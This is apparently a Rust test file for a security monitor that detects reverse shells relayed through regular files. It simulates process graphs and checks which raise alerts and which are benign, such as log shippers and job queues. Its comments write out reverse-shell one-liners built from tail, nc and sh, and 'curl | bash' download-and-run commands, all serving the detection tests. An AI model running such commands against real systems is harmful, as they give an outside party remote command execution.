//! Relays by regular files, and programs that share files for other reasons.

use super::*;

/// Processes begin in the first second of the machine.
const LATER: i64 = 1_000_000_000;
const BOTH: u32 = READ | WRITE;

/// `(tail -f o | nc A P > c) & tail -f c | sh >> o`, with files that were changed at these times.
fn tails(commands: i64, output: i64) -> Machine {
    let mut machine = Machine::default();
    let tcp = machine.connection(40000, PEER);
    let [into, from] = machine.relay([WRITE, READ], commands);
    let [out, tail_of] = machine.relay([WRITE, READ], output);
    let (out_read, out_write) = machine.pipe();
    let (in_read, in_write) = machine.pipe();
    machine.run(20, "nc", "nc A 4444", &[(0, &out_read), (1, &into), (3, &tcp)]);
    machine.run(21, "tail", "tail -f o", &[(1, &out_write), (3, &tail_of)]);
    machine.run(22, "tail", "tail -f c", &[(1, &in_write), (3, &from)]);
    machine.run(23, "dash", "sh", &[(0, &in_read), (1, &out), (2, &out)]);
    machine.received = 3;
    machine
}

const TAILS: &str = "Outbound 40000: 20,22,21,23 in 20>22>23 out 23>21>20";

#[test]
fn a_shell_behind_two_regular_files_is_reported() {
    let mut watch = Watch::new();
    assert_eq!(watch.settle(&tails(LATER, LATER)), [TAILS]);
    assert_eq!(watch.settle(&tails(LATER, LATER)), [""; 0], "once");
    // A file without a name, or in memory, carries bytes as well.
    let mut machine = tails(LATER, LATER);
    machine.relays.values_mut().for_each(|relay| relay.links = 0);
    assert_eq!(Watch::new().settle(&machine), [TAILS]);
}

#[test]
fn files_that_nobody_wrote_since_carry_nothing() {
    for (commands, output) in [(0, LATER), (LATER, 0)] {
        assert_eq!(Watch::new().settle(&tails(commands, output)), [""; 0]);
    }
    let mut machine = tails(LATER, LATER);
    machine.received = 0;
    assert_eq!(Watch::new().settle(&machine), [""; 0], "the peer has sent nothing");
    let mut machine = tails(LATER, LATER);
    machine.relays.values_mut().for_each(|relay| relay.size = 0);
    assert_eq!(Watch::new().settle(&machine), [""; 0], "they are empty");
    // The first command ends that.
    let mut watch = Watch::new();
    assert_eq!(watch.settle(&tails(0, 0)), [""; 0]);
    assert_eq!(watch.settle(&tails(LATER, LATER)), [TAILS]);
}

#[test]
fn a_file_for_output_alone_is_enough() {
    // `tail -f o | nc A P | sh >> o`
    let mut machine = Machine::default();
    let tcp = machine.connection(40000, PEER);
    let [out, tail_of] = machine.relay([WRITE, READ], LATER);
    let (in_read, in_write) = machine.pipe();
    let (out_read, out_write) = machine.pipe();
    machine.run(20, "tail", "tail -f o", &[(1, &out_write), (3, &tail_of)]);
    machine.run(21, "nc", "nc A 4444", &[(0, &out_read), (1, &in_write), (3, &tcp)]);
    machine.run(22, "dash", "sh", &[(0, &in_read), (1, &out), (2, &out)]);
    machine.received = 3;
    assert_eq!(Watch::new().settle(&machine), ["Outbound 40000: 21,20,22 in 21>22 out 22>20>21"]);
    // A script or a command is none that a peer gives.
    machine.world.process(22).arguments = b"sh\0-c\0x\0".to_vec();
    assert_eq!(Watch::new().settle(&machine), [""; 0]);
}

#[test]
fn a_relay_that_accepts_has_the_file_as_its_output() {
    let accepted = |descriptor: u32| {
        let mut machine = tails(LATER, LATER);
        machine.listener(40000);
        let relay = machine.world.process(20);
        relay.files[1].0 = descriptor;
        relay.files.sort_by_key(|(index, _)| *index);
        Watch::new().settle(&machine)
    };
    assert_eq!(accepted(1), ["Accepted 40000: 20,22,21,23 in 20>22>23 out 23>21>20"]);
    // A server that keeps jobs in a file.
    assert_eq!(accepted(7), [""; 0]);
}

#[test]
fn a_file_that_a_process_inherited_is_no_link() {
    // `exec 9<>lock; curl A | bash | tee x`: all of them hold the lock.
    let machine = |links: u32| {
        let mut machine = Machine::default();
        let tcp = machine.connection(40000, PEER);
        let [lock] = machine.relay([BOTH], LATER);
        machine.relays.values_mut().for_each(|relay| relay.links = links);
        let (in_read, in_write) = machine.pipe();
        let (out_read, out_write) = machine.pipe();
        machine.run(20, "curl", "curl A", &[(1, &in_write), (3, &tcp), (9, &lock)]);
        machine.run(21, "bash", "bash", &[(0, &in_read), (1, &out_write), (9, &lock)]);
        machine.run(22, "tee", "tee x", &[(0, &out_read), (1, &null()), (9, &lock)]);
        machine.received = 3;
        machine
    };
    assert_eq!(Watch::new().settle(&machine(1)), [""; 0]);
    // A temporary file without a name, to which a program writes what its children print.
    assert_eq!(Watch::new().settle(&machine(0)), [""; 0]);
}

#[test]
fn logs_and_their_followers_raise_no_alert() {
    // `tail -f log | grep x | nc collector`, and a shell whose output is the log.
    let mut machine = Machine::default();
    let tcp = machine.connection(40000, PEER);
    let [log, followed] = machine.relay([WRITE, READ], LATER);
    let (a_read, a_write) = machine.pipe();
    let (b_read, b_write) = machine.pipe();
    let script = FakeFile::regular(0xffff_8893_0000_0200, 8, "script");
    machine.run(20, "tail", "tail -f log", &[(1, &a_write), (3, &followed)]);
    machine.run(21, "grep", "grep x", &[(0, &a_read), (1, &b_write)]);
    machine.run(22, "nc", "nc collector 514", &[(0, &b_read), (3, &tcp)]);
    machine.run(23, "dash", "sh", &[(0, &script), (1, &log), (2, &log)]);
    machine.received = 3;
    assert_eq!(Watch::new().settle(&machine), [""; 0]);
    // A job queue: a shell runs what a service writes, and the service's peer is elsewhere.
    let [jobs, queue] = machine.relay([WRITE, READ], LATER);
    let (read, write) = machine.pipe();
    machine.run(24, "tail", "tail -f jobs", &[(1, &write), (3, &queue)]);
    machine.run(25, "dash", "sh", &[(0, &read), (1, &log), (2, &log)]);
    machine.run(26, "spool", "spool", &[(1, &jobs)]);
    assert_eq!(Watch::new().settle(&machine), [""; 0]);
}

#[test]
fn a_log_that_is_sent_to_where_a_script_came_from_raises_no_alert() {
    // `curl A/install.sh | bash >> log`, and a shipper of logs that sends to the same machine.
    let mut machine = Machine::default();
    let [download, shipping] = [40000, 40001].map(|port| machine.connection(port, PEER));
    let [log, followed] = machine.relay([WRITE, READ], LATER);
    let (read, write) = machine.pipe();
    machine.run(20, "curl", "curl A", &[(1, &write), (3, &download)]);
    machine.run(21, "bash", "bash", &[(0, &read), (1, &log), (2, &log)]);
    machine.run(22, "filebeat", "filebeat", &[(3, &shipping), (7, &followed)]);
    machine.received = 100_000;
    assert_eq!(Watch::new().settle(&machine), [""; 0]);
}

#[test]
fn a_daemon_that_gets_back_what_a_shell_makes_of_its_log_raises_no_alert() {
    // `tail -f log | while read -r line; do …; done | logger`, with a remote collector.
    let mut machine = Machine::default();
    let tcp = machine.connection(40000, PEER);
    let [log, followed] = machine.relay([WRITE, READ], LATER);
    let (socket, logger) = machine.pair();
    let (in_read, in_write) = machine.pipe();
    let (out_read, out_write) = machine.pipe();
    machine.run(20, "rsyslogd", "rsyslogd", &[(3, &tcp), (5, &socket), (7, &log)]);
    machine.run(21, "tail", "tail -f log", &[(1, &in_write), (3, &followed)]);
    machine.run(22, "bash", "bash", &[(0, &in_read), (1, &out_write)]);
    machine.run(23, "logger", "logger", &[(0, &out_read), (3, &logger)]);
    machine.received = 100;
    machine.relays.values_mut().for_each(|relay| relay.size = 5000);
    assert_eq!(Watch::new().settle(&machine), [""; 0]);
    // A relay writes no more than its peer has sent.
    machine.relays.values_mut().for_each(|relay| relay.size = 100);
    assert_eq!(Watch::new().settle(&machine).len(), 1);
}

#[test]
fn two_clients_of_a_database_raise_no_alert() {
    // Both have its files open, and one of them a connection and a shell.
    let mut machine = Machine::default();
    let tcp = machine.connection(40000, PEER);
    let files: Vec<_> = (0..5).flat_map(|_| machine.relay([BOTH, BOTH], LATER)).collect();
    let (in_read, in_write) = machine.pipe();
    let (out_read, out_write) = machine.pipe();
    let own = |first: usize| (10..).zip(files.iter().skip(first).step_by(2));
    let server: Vec<_> = [(3, &tcp)].into_iter().chain(own(0)).collect();
    let client: Vec<_> = [(0, &out_read), (1, &in_write)].into_iter().chain(own(1)).collect();
    machine.run(20, "postgres", "postgres", &server);
    machine.run(21, "postgres", "postgres", &client);
    machine.run(22, "bash", "bash", &[(0, &in_read), (1, &out_write), (2, &out_write)]);
    machine.received = 3;
    assert_eq!(Watch::new().settle(&machine), [""; 0]);
    // With one file they would be a relay.
    for pid in [20, 21] {
        machine.world.process(pid).files.retain(|(index, _)| *index <= 10);
    }
    assert_eq!(Watch::new().settle(&machine).len(), 1);
}

/// A search that is cut short has seen the connection.
#[test]
fn connections_come_before_files_and_masters_between_both() {
    let mut machine = Machine::default();
    let tcp = machine.connection(40000, PEER);
    let (master, _) = machine.terminal();
    let (logs, followed): (Vec<_>, Vec<_>) =
        (0..100).map(|_| machine.relay([WRITE, READ], LATER)).map(Into::into).unzip();
    let files: Vec<_> = (3..).zip(logs.iter().chain([&master, &tcp])).collect();
    machine.run(20, "logd", "logd", &files);
    let files: Vec<_> = (3..).zip(&followed).collect();
    machine.run(21, "tail", "tail -f log", &files);
    let mut watch = super::many::watch_with(&super::many::roomy());
    machine.show(&mut watch.snapshot);
    watch.shells.graph.build(&watch.snapshot);
    let (graph, snapshot) = (&watch.shells.graph, &watch.snapshot);
    let table = snapshot.process_by_pid(20).unwrap().files.unwrap();
    let objects = |edges| -> Vec<_> {
        let places = graph.carriers_of(snapshot, table, edges);
        let file = |place| snapshot.descriptors.at(graph.carrier(place)?)?.file;
        places.map(|place| graph.object_of(snapshot, file(place), Edges::WithFiles)).collect()
    };
    let usual = objects(Edges::Usual);
    assert!(matches!(usual[..], [Some(ChannelEnd::Connection(_)), Some(ChannelEnd::Terminal(_))]));
    let all = objects(Edges::WithFiles);
    assert_eq!(all[..2], usual);
    assert!(all[2..].iter().all(|object| matches!(object, Some(ChannelEnd::File(_)))));
    let masters = graph.masters_of(snapshot, table);
    let all = graph.carriers_of(snapshot, table, Edges::Usual);
    assert_eq!(masters, all.start + 1..all.end);
}

/// The search that follows files has steps of its own.
#[test]
fn many_followers_of_a_log_take_no_steps_from_others() {
    let mut machine = tails(LATER, LATER);
    let [log] = machine.relay([WRITE], LATER);
    let followers: Vec<_> = (0..500)
        .map(|_| {
            let address = machine.address();
            machine.modes.insert(address, READ);
            let relay = machine.relays[&log.address];
            machine.relays.insert(address, relay);
            FakeFile { address, ..log.clone() }
        })
        .collect();
    for (pid, followed) in (1000..).zip(&followers) {
        let (read, write) = machine.pipe();
        machine.run(pid, "tail", "tail -f log", &[(1, &write), (3, followed)]);
        machine.run(pid + 1000, "less", "less", &[(0, &read)]);
    }
    machine.run(990, "syslogd", "syslogd", &[(4, &log)]);
    let mut watch = super::many::watch_with(&super::many::roomy());
    assert_eq!(watch.settle(&machine), [TAILS]);
    assert_eq!(watch.shells.unchecked().missed(), 0);
    assert!(watch.shells.graph.steps() < 100, "{}", watch.shells.graph.steps());
}
